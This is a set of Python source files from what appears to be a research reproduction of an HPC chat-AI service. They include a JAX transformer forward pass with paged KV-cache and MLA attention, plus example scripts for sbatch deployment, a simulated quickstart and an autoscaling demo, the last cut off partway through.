# token row and dequantized on gather; otherwise the write is a plain cast
# and the gather returns pool-dtype values bit-for-bit as before.

def _kv_scatter(cache, new_cache, name, bidx, off, vals):
    """Scatter token rows: vals [*idx, *feat] into pool[bidx, off]."""
    pool = cache[name + "_pool"]
    sn = name + "_scale_pool"
    if sn in cache:
        q, s = attn.quantize_rows(vals, vals.ndim - bidx.ndim, pool.dtype)
        new_cache[name + "_pool"] = pool.at[bidx, off].set(q)
        new_cache[sn] = cache[sn].at[bidx, off].set(s)
    else:
        new_cache[name + "_pool"] = pool.at[bidx, off].set(
            vals.astype(pool.dtype))


def _kv_scatter_blocks(cache, new_cache, name, bt_used, vals):
    """Scatter whole blocks: vals [B, nb, bs, *feat] into pool[bt_used]."""
    pool = cache[name + "_pool"]
    sn = name + "_scale_pool"
    if sn in cache:
        q, s = attn.quantize_rows(vals, vals.ndim - 3, pool.dtype)
        new_cache[name + "_pool"] = pool.at[bt_used].set(q)
        new_cache[sn] = cache[sn].at[bt_used].set(s)
    else:
        new_cache[name + "_pool"] = pool.at[bt_used].set(
            vals.astype(pool.dtype))


def _kv_gather(tree, name, bt):
    """Gather blocks [.., bs, *feat] for a block table, dequantizing."""
    g = tree[name + "_pool"][bt]
    sn = name + "_scale_pool"
    if sn in tree:
        g = attn.dequantize_rows(g, tree[sn][bt])
    return g


# ---------------------------------------------------------------------------
# forward
# ---------------------------------------------------------------------------

def _project(x, w):
    """x [B,S,D] @ w [D, H, hd] -> [B,S,H,hd] (or 2D w -> [B,S,F])."""
    if w.ndim == 2:
        return x @ w
    return jnp.einsum("bsd,dhk->bshk", x, w)


def _attn_mixer(cfg: ModelConfig, p, x, *, mode, cache, positions, extras):
    B, S, D = x.shape
    resid = x
    x = rms_norm(x, p["norm1"], cfg.norm_eps)
    new_cache = dict(cache) if cache is not None else None
    pos2d = positions if positions.ndim >= 2 else positions[:, None]

    if cfg.mla is not None:
        m = cfg.mla
        cq = rms_norm(x @ p["w_dq"], p["q_norm"], cfg.norm_eps)
        q = jnp.einsum("bsl,lhk->bshk", cq, p["w_uq"])
        q_nope, q_rope = jnp.split(q, [m.qk_nope_dim], axis=-1)
        q_rope = apply_rope(q_rope, pos2d, cfg.rope_theta)
        dkv = x @ p["w_dkv"]                                  # [B,S,L+r]
        lat, k_rope = jnp.split(dkv, [m.kv_lora_rank], axis=-1)
        lat = rms_norm(lat, p["kv_norm"], cfg.norm_eps)
        k_rope = apply_rope(k_rope[:, :, None, :], pos2d,
                            cfg.rope_theta)[:, :, 0, :]
        paged = cache is not None and "lat_pool" in cache
        if paged and mode == "decode" and S == 1:
            # paged MLA decode: the latent + rope vectors page exactly like
            # GQA K/V — one [bs, kv_lora_rank] row per token — and the
            # absorbed-projection decode attends against the gathered
            # latent blocks with a lengths mask (padding rows contribute
            # NEG_INF scores, i.e. exact-zero probability, keeping outputs
            # bitwise equal to the contiguous reference).
            bt = extras["block_table"]               # [B, max_blocks]
            pos = positions.reshape(B)
            bs = cache["lat_pool"].shape[1]
            bidx = jnp.take_along_axis(bt, (pos // bs)[:, None], 1)[:, 0]
            ro = extras.get("pool_row_offset")
            if ro is not None:
                bidx = bidx + ro
                bt = bt + ro
            _kv_scatter(cache, new_cache, "lat", bidx, pos % bs, lat[:, 0])
            _kv_scatter(cache, new_cache, "rope", bidx, pos % bs,
                        k_rope[:, 0])
            lg = _kv_gather(new_cache, "lat", bt).reshape(
                B, -1, m.kv_lora_rank)
            rg = _kv_gather(new_cache, "rope", bt).reshape(
                B, -1, m.qk_rope_dim)
            o = attn.mla_decode_absorbed(
                q_nope, q_rope, lg, rg, p["w_uk"], p["w_uv"],
                lengths=pos + 1)
        elif paged and mode == "prefill" and "true_len" in extras:
            # traced paged MLA prefill (jitted bucketed hot path): scatter
            # the chunk's latents at absolute positions (padded tail ->
            # scratch block), gather the whole table, up-project the
            # gathered latents and run masked flash — the same
            # scatter-then-gather trick as the GQA branch below.
            bt = extras["block_table"]
            bs = cache["lat_pool"].shape[1]
            ro = extras.get("pool_row_offset")
            pool_rows = extras.get("pool_rows", cache["lat_pool"].shape[0])
            scratch = pool_rows - 1
            p0 = extras["prefix_len"]                # [B] traced
            true_len = extras["true_len"]            # [B] traced
            pos = positions                          # [B, S] absolute
            valid = jnp.arange(S)[None, :] < true_len[:, None]
            bidx = jnp.take_along_axis(
                bt, jnp.clip(pos // bs, 0, bt.shape[1] - 1), axis=1)
            bidx = jnp.where(valid, bidx, scratch)
            if ro is not None:
                bidx = bidx + ro
                bt = bt + ro
            off = pos % bs
            _kv_scatter(cache, new_cache, "lat", bidx, off, lat)
            _kv_scatter(cache, new_cache, "rope", bidx, off, k_rope)
            lg = _kv_gather(new_cache, "lat", bt).reshape(
                B, -1, m.kv_lora_rank).astype(lat.dtype)
            rg = _kv_gather(new_cache, "rope", bt).reshape(
                B, -1, m.qk_rope_dim).astype(k_rope.dtype)
            W = lg.shape[1]
            k_nope = jnp.einsum("bsl,lhk->bshk", lg, p["w_uk"])
            v = jnp.einsum("bsl,lhv->bshv", lg, p["w_uv"])
            k = jnp.concatenate(
                [k_nope, jnp.broadcast_to(
                    rg[:, :, None, :],
                    (B, W, cfg.num_heads, m.qk_rope_dim))], axis=-1)
            qf = jnp.concatenate([q_nope, q_rope], axis=-1)
            o = attn.flash_attention(qf, k, v, causal=True, q_offset=p0,
                                     window=cfg.sliding_window,
                                     kv_lengths=extras["kv_lengths"])
        elif paged and mode == "prefill":
            # eager paged MLA prefill: S is a multiple of the block size;
            # a block-aligned cached prefix is gathered, fresh latents are
            # appended for attention and written block-wise.
            bt = extras["block_table"]
            bs = cache["lat_pool"].shape[1]
            nb = S // bs
            p0 = int(extras.get("prefix_len", 0))
            npb = p0 // bs
            if p0:
                bt_prefix = bt[:, :npb]
                lp = _kv_gather(cache, "lat", bt_prefix).reshape(
                    B, p0, m.kv_lora_rank)
                rp = _kv_gather(cache, "rope", bt_prefix).reshape(
                    B, p0, m.qk_rope_dim)
                lat_all = jnp.concatenate([lp.astype(lat.dtype), lat], 1)
                rope_all = jnp.concatenate(
                    [rp.astype(k_rope.dtype), k_rope], 1)
            else:
                lat_all, rope_all = lat, k_rope
            W = lat_all.shape[1]
            k_nope = jnp.einsum("bsl,lhk->bshk", lat_all, p["w_uk"])
            v = jnp.einsum("bsl,lhv->bshv", lat_all, p["w_uv"])
            k = jnp.concatenate(
                [k_nope, jnp.broadcast_to(
                    rope_all[:, :, None, :],
                    (B, W, cfg.num_heads, m.qk_rope_dim))], axis=-1)
            qf = jnp.concatenate([q_nope, q_rope], axis=-1)
            o = attn.flash_attention(qf, k, v, causal=True, q_offset=p0,
                                     window=cfg.sliding_window,
                                     kv_lengths=extras.get("kv_lengths"))
            bt_used = bt[:, npb:npb + nb]
            _kv_scatter_blocks(cache, new_cache, "lat",
                               bt_used, lat.reshape(B, nb, bs, -1))
            _kv_scatter_blocks(cache, new_cache, "rope",
                               bt_used, k_rope.reshape(B, nb, bs, -1))
        elif mode == "decode":
            idx = (jnp.arange(B), positions.reshape(B))
            new_cache["lat"] = cache["lat"].at[idx].set(
                lat[:, 0].astype(cache["lat"].dtype))
            new_cache["rope"] = cache["rope"].at[idx].set(
                k_rope[:, 0].astype(cache["rope"].dtype))
            o = attn.mla_decode_absorbed(
                q_nope, q_rope, new_cache["lat"], new_cache["rope"],
                p["w_uk"], p["w_uv"], lengths=positions.reshape(B) + 1)
        else:
            k_nope = jnp.einsum("bsl,lhk->bshk", lat, p["w_uk"])
            v = jnp.einsum("bsl,lhv->bshv", lat, p["w_uv"])
            k = jnp.concatenate(
                [k_nope, jnp.broadcast_to(
                    k_rope[:, :, None, :],
                    (B, S, cfg.num_heads, m.qk_rope_dim))], axis=-1)
            qf = jnp.concatenate([q_nope, q_rope], axis=-1)
            o = attn.flash_attention(qf, k, v, causal=True,
                                     window=cfg.sliding_window)
            if cache is not None:
                new_cache["lat"] = jax.lax.dynamic_update_slice_in_dim(
                    cache["lat"], lat.astype(cache["lat"].dtype), 0, axis=1)
                new_cache["rope"] = jax.lax.dynamic_update_slice_in_dim(
                    cache["rope"], k_rope.astype(cache["rope"].dtype), 0,
                    axis=1)
        # deterministic TP: gather the head-sharded context before the
        # out-projection so the contraction over heads stays local
        x = resid + jnp.einsum("bshv,hvd->bsd", tp_replicate(o), p["wo"])
    else:
        q = _project(x, p["wq"])
        k = _project(x, p["wk"])
        v = _project(x, p["wv"])
        if cfg.qk_norm:
            q = rms_norm(q, p["q_norm"], cfg.norm_eps)
            k = rms_norm(k, p["k_norm"], cfg.norm_eps)
        if cfg.use_rope:
            mr = cfg.mrope_sections
            rp = extras.get("mrope_positions") if mr else pos2d
            if mr and rp is None:
                # text-only fallback: M-RoPE degenerates to (t,h,w) all equal
                # to the 1-D position (exactly Qwen2-VL's text behaviour)
                rp = jnp.broadcast_to(pos2d[..., None],
                                      (*pos2d.shape, 3))
            q = apply_rope(q, rp, cfg.rope_theta, mr)
            k = apply_rope(k, rp, cfg.rope_theta, mr)
        if (mode == "decode" and cache is not None and "k_pool" in cache
                and S == 1):
            # paged KV (vLLM-style): scatter the new token into its block,
            # gather the sequence's blocks for attention.  With
            # extras["pool_row_offset"] the pool leaf is the *flat*
            # all-layers buffer (the hoisted hot path, see forward()): the
            # per-layer block indices are shifted into this layer's rows.
            bt = extras["block_table"]               # [B, max_blocks]
            pos = positions.reshape(B)
            bs = cache["k_pool"].shape[1]
            bidx = jnp.take_along_axis(bt, (pos // bs)[:, None], 1)[:, 0]
            ro = extras.get("pool_row_offset")
            if ro is not None:
                bidx = bidx + ro
                bt = bt + ro
            _kv_scatter(cache, new_cache, "k", bidx, pos % bs, k[:, 0])
            _kv_scatter(cache, new_cache, "v", bidx, pos % bs, v[:, 0])
            kg = _kv_gather(new_cache, "k", bt).reshape(B, -1, *k.shape[2:])
            vg = _kv_gather(new_cache, "v", bt).reshape(B, -1, *v.shape[2:])
            o = attn.decode_attention(q, kg, vg, pos + 1,
                                      window=cfg.sliding_window)
        elif mode == "decode" and cache is not None and "k_pool" in cache:
            # speculative verify (q_len > 1): scatter all S candidate
            # tokens — the last committed token plus up to S-1 drafts —
            # into their blocks, then attend every query against the pool
            # with *per-query* lengths (query j sees keys < pos[b,j]+1).
            # Rows drafting fewer than S-1 tokens redirect the padded tail
            # to the scratch block via the traced extras["spec_len"], the
            # same trick the bucketed-prefill branch plays with true_len,
            # so one executable serves every per-row draft-length mix.
            # verify_attention is bitwise-per-query equal to
            # decode_attention — see models/attention.py — which is what
            # makes accepted drafts exactly the sequential-decode output.
            bt = extras["block_table"]               # [B, max_blocks]
            bs = cache["k_pool"].shape[1]
            ro = extras.get("pool_row_offset")
            pool_rows = extras.get("pool_rows", cache["k_pool"].shape[0])
            scratch = pool_rows - 1
            pos = positions                          # [B, S] absolute
            spec_len = extras["spec_len"]            # [B] traced: 1+drafts
            valid = jnp.arange(S)[None, :] < spec_len[:, None]
            bidx = jnp.take_along_axis(
                bt, jnp.clip(pos // bs, 0, bt.shape[1] - 1), axis=1)
            bidx = jnp.where(valid, bidx, scratch)
            if ro is not None:
                bidx = bidx + ro
                bt = bt + ro
            off = pos % bs
            _kv_scatter(cache, new_cache, "k", bidx, off, k)
            _kv_scatter(cache, new_cache, "v", bidx, off, v)
            kg = _kv_gather(new_cache, "k", bt).reshape(B, -1, *k.shape[2:])
            vg = _kv_gather(new_cache, "v", bt).reshape(B, -1, *v.shape[2:])
            o = attn.verify_attention(q, kg, vg, pos + 1,
                                      window=cfg.sliding_window)
        elif (mode == "prefill" and cache is not None and "k_pool" in cache
              and "true_len" in extras):
            # traced paged prefill (the engine's jitted bucketed hot path):
            # prefix_len / true_len / kv_lengths are [B] *traced* scalars,
            # so one executable serves every cached-prefix depth and every
            # batch row mix — compile count is O(#shape buckets), never
            # O(#offsets).  Scatter-then-gather: the chunk's fresh K/V is
            # scattered into the pool at its absolute positions (padded
            # tail rows are redirected to the scratch block), then the
            # whole block table is gathered and masked with kv_lengths —
            # shapes depend only on (B, S, table width).
            bt = extras["block_table"]               # [B, max_blocks]
            bs = cache["k_pool"].shape[1]
            ro = extras.get("pool_row_offset")
            pool_rows = extras.get("pool_rows", cache["k_pool"].shape[0])
            scratch = pool_rows - 1
            p0 = extras["prefix_len"]                # [B] traced
            true_len = extras["true_len"]            # [B] traced
            pos = positions                          # [B, S] absolute
            valid = jnp.arange(S)[None, :] < true_len[:, None]
            bidx = jnp.take_along_axis(
                bt, jnp.clip(pos // bs, 0, bt.shape[1] - 1), axis=1)
            bidx = jnp.where(valid, bidx, scratch)
            if ro is not None:
                bidx = bidx + ro
                bt = bt + ro
            off = pos % bs
            _kv_scatter(cache, new_cache, "k", bidx, off, k)
            _kv_scatter(cache, new_cache, "v", bidx, off, v)
            kg = _kv_gather(new_cache, "k", bt).reshape(B, -1, *k.shape[2:])
            vg = _kv_gather(new_cache, "v", bt).reshape(B, -1, *v.shape[2:])
            o = attn.flash_attention(q, kg, vg, causal=True,
                                     q_offset=p0,
                                     window=cfg.sliding_window,
                                     kv_lengths=extras["kv_lengths"])
        elif mode == "prefill" and cache is not None and "k_pool" in cache:
            # paged prefill: S must be a multiple of the block size; the
            # engine pads the prompt and masks with kv_lengths.  With
            # extras["prefix_len"] = p0 (a block-aligned python int) the
            # first p0 tokens are already in the pool (prefix-cache hit or
            # an earlier prefill chunk): their blocks are gathered for
            # attention, queries run at offset p0, and only the fresh
            # blocks are written.
            bt = extras["block_table"]
            bs = cache["k_pool"].shape[1]
            nb = S // bs
            p0 = int(extras.get("prefix_len", 0))
            npb = p0 // bs
            if p0:
                bt_prefix = bt[:, :npb]
                kp = _kv_gather(cache, "k", bt_prefix).reshape(
                    B, p0, *k.shape[2:])
                vp = _kv_gather(cache, "v", bt_prefix).reshape(
                    B, p0, *v.shape[2:])
                k_all = jnp.concatenate([kp.astype(k.dtype), k], axis=1)
                v_all = jnp.concatenate([vp.astype(v.dtype), v], axis=1)
            else:
                k_all, v_all = k, v
            o = attn.flash_attention(q, k_all, v_all, causal=True,
                                     q_offset=p0,
                                     window=cfg.sliding_window,
                                     kv_lengths=extras.get("kv_lengths"))
            bt_used = bt[:, npb:npb + nb]
            _kv_scatter_blocks(cache, new_cache, "k",
                               bt_used, k.reshape(B, nb, bs, *k.shape[2:]))
            _kv_scatter_blocks(cache, new_cache, "v",
                               bt_used, v.reshape(B, nb, bs, *v.shape[2:]))
        elif mode == "decode":
            idx = (jnp.arange(B), positions.reshape(B))
            new_cache["k"] = cache["k"].at[idx].set(
                k[:, 0].astype(cache["k"].dtype))
            new_cache["v"] = cache["v"].at[idx].set(
                v[:, 0].astype(cache["v"].dtype))
            o = attn.decode_attention(q, new_cache["k"], new_cache["v"],
                                      positions.reshape(B) + 1,
                                      window=cfg.sliding_window)
        else:
            o = attn.flash_attention(q, k, v, causal=True,
                                     window=cfg.sliding_window)
            if cache is not None:
                new_cache["k"] = jax.lax.dynamic_update_slice_in_dim(
                    cache["k"], k.astype(cache["k"].dtype), 0, axis=1)
                new_cache["v"] = jax.lax.dynamic_update_slice_in_dim(
                    cache["v"], v.astype(cache["v"].dtype), 0, axis=1)
        x = resid + jnp.einsum("bshk,hkd->bsd", tp_replicate(o), p["wo"])

    if cfg.cross_attention:
        resid = x
        xx = rms_norm(x, p["cross_norm"], cfg.norm_eps)
        q = _project(xx, p["cross_wq"])
        if mode == "prefill" or mode == "train":
            frames = extras["encoder_frames"]
            ck = _project(frames, p["cross_wk"])
            cv = _project(frames, p["cross_wv"])
            if cache is not None:
                ck_w = ck.astype(cache["cross_k"].dtype)
                cv_w = cv.astype(cache["cross_v"].dtype)
                act = extras.get("slot_active")
                if act is not None:
                    # batched engine prefill: rows not being prefilled this
                    # call keep their encoder KV untouched
                    ck_w = jnp.where(act[:, None, None, None], ck_w,
                                     cache["cross_k"])
                    cv_w = jnp.where(act[:, None, None, None], cv_w,
                                     cache["cross_v"])
                new_cache["cross_k"] = ck_w
                new_cache["cross_v"] = cv_w
            o = attn.flash_attention(q, ck, cv, causal=False)
        else:
            flen = jnp.full((B,), cache["cross_k"].shape[1], jnp.int32)
            o = attn.decode_attention(q, cache["cross_k"], cache["cross_v"],
                                      flen)
        x = resid + jnp.einsum("bshk,hkd->bsd", tp_replicate(o),
                               p["cross_wo"])
    return x, new_cache


_MOE_EXPERT_KEYS = frozenset(("w_gate", "w_up", "w_down"))


def _apply_sublayer(cfg, sl: SubLayer, p, x, *, mode, cache, positions,
                    extras):
    aux = jnp.zeros((), jnp.float32)
    # deterministic TP: weights are stored sharded and gathered to full
    # shape right before use, so every projection GEMM runs with the tp=1
    # shapes (bit-identical output).  MoE expert weights skip the gather —
    # their einsums batch over the expert dim, which shards exactly.
    p = tp_gather_params(p, _MOE_EXPERT_KEYS if sl.ffn == "moe"
                         else frozenset())
    if sl.mixer == "attn":
        x, new_cache = _attn_mixer(cfg, p["mixer"], x, mode=mode, cache=cache,
                                   positions=positions, extras=extras)
    else:
        resid = x
        h = rms_norm(x, p["mixer"]["norm1"], cfg.norm_eps)
        h, new_cache = ssm_lib.mamba_mixer(p["mixer"], h, cfg, mode=mode,
                                           cache=cache, extras=extras)
        x = resid + h
    if sl.ffn is not None:
        resid = x
        h = rms_norm(x, p["ffn"]["norm2"], cfg.norm_eps)
        if sl.ffn == "dense":
            h = moe_lib.dense_ffn(p["ffn"], h, cfg)
        else:
            B, S, D = h.shape
            h2, aux = moe_lib.moe_ffn(p["ffn"], h.reshape(B * S, D), cfg)
            h = h2.reshape(B, S, D)
        x = resid + h
    return x, new_cache, aux


def forward(cfg: ModelConfig, params, tokens, *, positions, mode: str,
            cache=None, extras=None, remat: bool = True):
    """Run the backbone.  Returns (hidden [B,S,D], new_cache, aux_loss).

    tokens: [B, S] int32 (S=1 for decode)
    positions: [B, S] int32 (absolute positions; decode: current index)
    extras: dict of modality inputs (patch_embeds / vision_mask /
            mrope_positions / encoder_frames)
    """
    extras = extras or {}
    x = jnp.take(tp_replicate(params["embed"]), tokens, axis=0)
    if cfg.vision_embed_dim and "patch_embeds" in extras:
        proj = extras["patch_embeds"] @ tp_replicate(params["patch_proj"])
        x = jnp.where(extras["vision_mask"][..., None], proj.astype(x.dtype),
                      x)
    if "pos_embed" in params:
        pos2d = positions if positions.ndim == 2 else positions[:, None]
        x = x + jnp.take(params["pos_embed"], pos2d, axis=0)

    aux_total = jnp.zeros((), jnp.float32)
    new_prefix_cache = {}
    for i, sl in enumerate(cfg.prefix):
        c = None if cache is None else cache["prefix"][f"l{i}"]
        x, nc, aux = _apply_sublayer(cfg, sl, params["prefix"][f"l{i}"], x,
                                     mode=mode, cache=c, positions=positions,
                                     extras=extras)
        new_prefix_cache[f"l{i}"] = nc
        aux_total += aux

    def body(carry, xs):
        x, aux = carry
        bp, bc = xs
        new_bc = {}
        for j, sl in enumerate(cfg.period):
            c = None if bc is None else bc[f"s{j}"]
            x, nc, a = _apply_sublayer(cfg, sl, bp[f"s{j}"], x, mode=mode,
                                       cache=c, positions=positions,
                                       extras=extras)
            new_bc[f"s{j}"] = nc
            aux += a
        return (x, aux), (new_bc if bc is not None else None)

    if remat and mode == "train":
        body = jax.checkpoint(body)
    blocks_cache = None if cache is None else cache["blocks"]
    if extras.get("hoist_pools") and blocks_cache is not None:
        # Hot-path variant (the engine's jitted step): the stacked pool
        # leaves must NOT ride through the scan as xs/ys — XLA
        # materializes fresh stacked buffers for scan outputs, i.e. a full
        # pool copy per step, which donation cannot elide.  Instead the
        # pools travel as *flat* [L*(NB+1), bs, ...] buffers in the scan
        # carry, which XLA aliases in place across iterations (and, with
        # donated inputs, all the way through to the output).  Each layer
        # addresses its own rows via pool_row_offset.  Non-pool leaves
        # (per-slot SSM state, cross-attn KV — small [B, ...] buffers)
        # ride the scan as ordinary xs/ys: the fresh stacked output copy
        # is cheap at their size and keeps cross-attn KV out of the
        # in-place donation set.
        pools_by_sub = {
            sub: {kk: v for kk, v in d.items() if kk.endswith("_pool")}
            for sub, d in blocks_cache.items()}
        state_by_sub = {
            sub: {kk: v for kk, v in d.items() if not kk.endswith("_pool")}
            for sub, d in blocks_cache.items()}
        pool_rows = {sub: next(iter(d.values())).shape[1]
                     for sub, d in pools_by_sub.items() if d}
        flat = {sub: {kk: v.reshape((-1,) + tuple(v.shape[2:]))
                      for kk, v in d.items()}
                for sub, d in pools_by_sub.items()}

        def body_hoisted(carry, xs):
            (x, aux), pools = carry
            bp, st, j = xs
            new_pools = {}
            new_state = {}
            for sj, sl in enumerate(cfg.period):
                sub = f"s{sj}"
                ex = dict(extras)
                if sub in pool_rows:
                    ex["pool_row_offset"] = j * pool_rows[sub]
                    ex["pool_rows"] = pool_rows[sub]
                c = {**pools.get(sub, {}), **st.get(sub, {})}
                x, nc, a = _apply_sublayer(cfg, sl, bp[sub], x, mode=mode,
                                           cache=c,
                                           positions=positions, extras=ex)
                new_pools[sub] = {kk: v for kk, v in nc.items()
                                  if kk.endswith("_pool")}
                new_state[sub] = {kk: v for kk, v in nc.items()
                                  if not kk.endswith("_pool")}
                aux += a
            new_pools = {sub: new_pools[sub] for sub in flat}
            return ((x, aux), new_pools), new_state

        ((x, aux_total), new_flat), new_state_stacked = jax.lax.scan(
            body_hoisted, ((x, aux_total), flat),
            (params["blocks"], state_by_sub, jnp.arange(cfg.n_blocks)))
        new_blocks_cache = {
            sub: {kk: (new_flat[sub][kk].reshape(d[kk].shape)
                       if kk.endswith("_pool")
                       else new_state_stacked[sub][kk])
                  for kk in d}
            for sub, d in blocks_cache.items()}
    else:
        (x, aux_total), new_blocks_cache = jax.lax.scan(
            body, (x, aux_total), (params["blocks"], blocks_cache))

    x = rms_norm(x, params["final_norm"], cfg.norm_eps)
    new_cache = None
    if cache is not None:
        new_cache = {"blocks": new_blocks_cache}
        if cfg.prefix:
            new_cache["prefix"] = new_prefix_cache
    return x, new_cache, aux_total


def logits_last(cfg: ModelConfig, params, hidden):
    """LM head on the last position only: [B,S,D] -> [B, V]."""
    h = hidden[:, -1]
    # vocab-sharded LM head storage: gather to the full matrix so the
    # logits GEMM and downstream sampling reductions match tp=1 exactly
    w = tp_replicate(params["embed"]).T if cfg.tie_embeddings \
        else tp_replicate(params["lm_head"])
    return (h @ w)[:, :cfg.vocab_size]


def logits_all(cfg: ModelConfig, params, hidden):
    """LM head on every position: [B,S,D] -> [B,S,V].  Computed as the
    same 2-D row matmul as :func:`logits_last` over the flattened rows —
    bitwise row-equal to a q_len=1 decode of the same hidden state, which
    the speculative verify pass depends on."""
    B, S, D = hidden.shape
    w = tp_replicate(params["embed"]).T if cfg.tie_embeddings \
        else tp_replicate(params["lm_head"])
    return (hidden.reshape(B * S, D) @ w)[:, :cfg.vocab_size] \
        .reshape(B, S, cfg.vocab_size)


def chunked_xent(cfg: ModelConfig, params, hidden, labels, *,
                 chunk: int = 512):
    """Memory-lean cross-entropy: scan over sequence chunks so the full
    [B,S,V] logits tensor never materializes (V up to 202k)."""
    B, S, D = hidden.shape
    w = params["embed"].T if cfg.tie_embeddings else params["lm_head"]
    chunk = min(chunk, S)
    while S % chunk:
        chunk //= 2
    hc = hidden.reshape(B, S // chunk, chunk, D)
    lc = labels.reshape(B, S // chunk, chunk)

    def body(tot, xs):
        h, y = xs                                   # [B,c,D], [B,c]
        logits = (h.astype(jnp.float32) @ w.astype(jnp.float32))
        logits = logits[..., :cfg.vocab_size]
        lse = jax.nn.logsumexp(logits, axis=-1)
        gold = jnp.take_along_axis(logits, y[..., None], axis=-1)[..., 0]
        return tot + jnp.sum(lse - gold), None

    body = jax.checkpoint(body)
    tot, _ = jax.lax.scan(body, jnp.zeros((), jnp.float32),
                          (jnp.moveaxis(hc, 1, 0), jnp.moveaxis(lc, 1, 0)))
    return tot / (B * S)
