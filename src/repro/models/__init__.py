from repro.models.config import ModelConfig, MoEConfig, MLAConfig, SSMConfig, SubLayer  # noqa: F401
from repro.models.model import (  # noqa: F401
    param_defs, cache_defs, init_cache, forward, logits_last, chunked_xent)
