"""Deployment artifact generator: render the REAL sbatch scripts + scheduler
config that the simulated stack corresponds to (paper §9 saia-hpc).

    PYTHONPATH=src python examples/deploy_sbatch.py [--outdir deploy/]
"""
import argparse
import json
import os

from repro.configs import get_config, list_archs
from repro.core.routing import RoutingTable
from repro.slurmlite.sbatch import render_sbatch

SERVICES = [
    ("meta-llama-3-1-70b", "llama3-70b", 2, 8 * 3600),
    ("mixtral-8x7b", "mixtral-8x7b", 2, 8 * 3600),
    ("qwen3-14b", "qwen3-14b", 1, 8 * 3600),
]


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--outdir", default="deploy")
    args = ap.parse_args()
    os.makedirs(args.outdir, exist_ok=True)

    table = RoutingTable()
    manifest = []
    for name, arch, gpus, limit in SERVICES:
        cfg = get_config(arch)
        port = table.alloc_port()
        script = render_sbatch(job_name=f"chatai_{name}", model=arch,
                               port=port, gpus=gpus, time_limit_s=limit)
        path = os.path.join(args.outdir, f"{name}.sbatch")
        with open(path, "w") as f:
            f.write(script)
        manifest.append({
            "service": name, "arch": arch, "gpus": gpus, "port": port,
            "params_b": round(cfg.param_counts()["total"] / 1e9, 1),
            "script": path,
        })
        print(f"wrote {path}  ({manifest[-1]['params_b']}B params, "
              f"port {port})")

    cfg_path = os.path.join(args.outdir, "scheduler_services.json")
    with open(cfg_path, "w") as f:
        json.dump(manifest, f, indent=1)
    print(f"wrote {cfg_path}")
    print(f"\nall assigned architectures available via --arch: "
          f"{', '.join(list_archs())}")


if __name__ == "__main__":
    main()
