"""Quickstart: stand up the full Chat AI stack (paper Figure 1) in
simulation, log in, chat, and verify the privacy property.

    PYTHONPATH=src python examples/quickstart.py
"""
from repro.core.scheduler import ServiceSpec
from repro.core.service import ChatAI


def main() -> None:
    chat = ChatAI.build_sim(services=[
        ServiceSpec(name="meta-llama-3.1-8b", arch="llama3.2-1b",
                    load_time=90.0, gpus_per_instance=1, max_instances=4),
        ServiceSpec(name="qwen2-72b", arch="qwen3-14b",
                    load_time=300.0, gpus_per_instance=2, max_instances=2),
    ])
    print("warming up (Slurm jobs submitted, models loading)...")
    chat.warm_up()
    print(f"  services ready at t={chat.clock.now():.0f}s sim time")
    for e in chat.scheduler.table.entries():
        print(f"  routing table: {e.service:20s} job={e.job_id} "
              f"node={e.node} port={e.port} ready={e.ready}")

    session = chat.login("alice@uni-goettingen.de")
    print(f"\nlogged in, session={session[:12]}…")

    t0 = chat.clock.now()
    secret = "please summarize my confidential draft"
    r = chat.chat(session=session, model="meta-llama-3.1-8b",
                  messages=[{"role": "user", "content": secret}],
                  max_tokens=32)
    print(f"gateway: {r.status}")
    out = {}
    r.deferred.on_done(lambda resp: out.setdefault("resp", resp))
    chat.clock.run_for(30)
    resp = out["resp"]
    print(f"response: status={resp.status} tokens={len(resp.tokens)} "
          f"first-token={1000 * (resp.first_token_time - t0):.1f} ms")

    # API-key path (paper §5.2: same backend surface as the web app)
    key = chat.issue_api_key("carol@mpg.de")
    r2 = chat.chat(api_key=key, model="qwen2-72b",
                   messages=[{"role": "user", "content": "hello"}],
                   max_tokens=8)
    chat.clock.run_for(30)
    print(f"API-key path: {r2.status}")

    # privacy audit (paper §6.2): the prompt is nowhere on the server side
    chat.assert_no_conversation_state(secret.encode())
    print("privacy audit passed: no conversation bytes retained server-side")

    print("\nmetrics excerpt:")
    for line in chat.metrics.render_prometheus().splitlines():
        if line.startswith(("gw_requests_total", "requests_completed",
                            "proxy_keepalives", "jobs_submitted")):
            print("  " + line)


if __name__ == "__main__":
    main()
