"""Autoscaling + failure-recovery demo (paper §5.6, §7.1.1).

Replays a bursty day against the scheduler and prints a timeline of
instances / load / Slurm state, including a node failure mid-burst and the
side-by-side batch workload the service coexists with.

    PYTHONPATH=src python examples/autoscale_demo.py
"""
from repro.core.scheduler import ServiceSpec
from repro.core.service import ChatAI
from repro.slurmlite import JobSpec


def timeline_row(chat, label):
    es = chat.scheduler.table.entries("llama")
    used, total = chat.slurm.gpu_totals()
    avg = chat.scheduler.load["llama"].average()
    print(f"t={chat.clock.now():7.0f}s  {label:28s} "
          f"instances={len(es)} ready={sum(e.ready for e in es)} "
          f"expiring={sum(e.expiring for e in es)} "
          f"avg_load={avg:5.1f}  gpus={used}/{total}")


def main() -> None:
    chat = ChatAI.build_sim(
        services=[ServiceSpec(
            name="llama", arch="llama3.2-1b", load_time=120.0,
            gpus_per_instance=2, min_instances=1, max_instances=6,
            scale_up_per_instance=4.0, scale_down_per_instance=1.0,
            window_s=60.0)],
        n_nodes=6, gpus_per_node=4, rate_limit=10**9)
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")
    timeline_row(chat, "warm")

    # regular Slurm batch jobs fill spare GPUs (side-by-side operation)
    for _ in range(6):
        chat.slurm.sbatch(JobSpec("mpi_train_job", gres_gpus=4,
                                  time_limit=3000.0, priority=0))
    chat.clock.run_for(10)
    timeline_row(chat, "batch jobs arrive")

    # burst: 40 long generations land at once
    for i in range(40):
        chat.chat(session=sess, model="llama",
                  messages=[{"role": "user", "content": f"req{i}"}],
                  max_tokens=2048)
    for step in range(8):
        chat.clock.run_for(60)
        timeline_row(chat, f"burst +{(step + 1)}min")

    # node failure mid-burst: the job is replaced elsewhere
    victim = next(e.node for e in chat.scheduler.table.entries("llama")
                  if e.ready)
    chat.slurm.fail_node(victim)
    timeline_row(chat, f"node {victim} FAILS")
    for step in range(4):
        chat.clock.run_for(120)
        timeline_row(chat, f"recovery +{2 * (step + 1)}min")

    # burst drains -> scale down (expiring jobs, not resubmitted)
    chat.clock.run_for(1800)
    timeline_row(chat, "burst drained")
    chat.clock.run_for(3600)
    timeline_row(chat, "idle hour later")

    m = chat.metrics
    print("\ncounters:")
